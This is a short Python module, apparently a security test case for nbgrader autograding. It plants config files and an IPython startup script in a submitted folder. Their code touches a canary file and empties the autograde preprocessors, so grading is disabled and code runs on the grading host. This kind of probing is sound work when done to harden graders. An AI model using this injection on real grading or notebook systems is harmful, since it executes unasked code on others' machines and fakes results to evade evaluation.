"""Hands in the settings of nbgrader, Jupyter and IPython, which are code, to turn the grading of cells off.

Outcome of entropy: not started
"""

HACK = f"""
open({CANARY_FOLDER + "/hacked"!r}, "w").close()
c = get_config()
c.Autograde.autograde_preprocessors = []
"""
FILES = ("nbgrader_config.py", "jupyter_config.py", "ipython_config.py", ".ipython/profile_default/startup/00-hack.py")


def hand_in(folder, work):
    for name in FILES:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(HACK)
    work.write_notebook(folder)
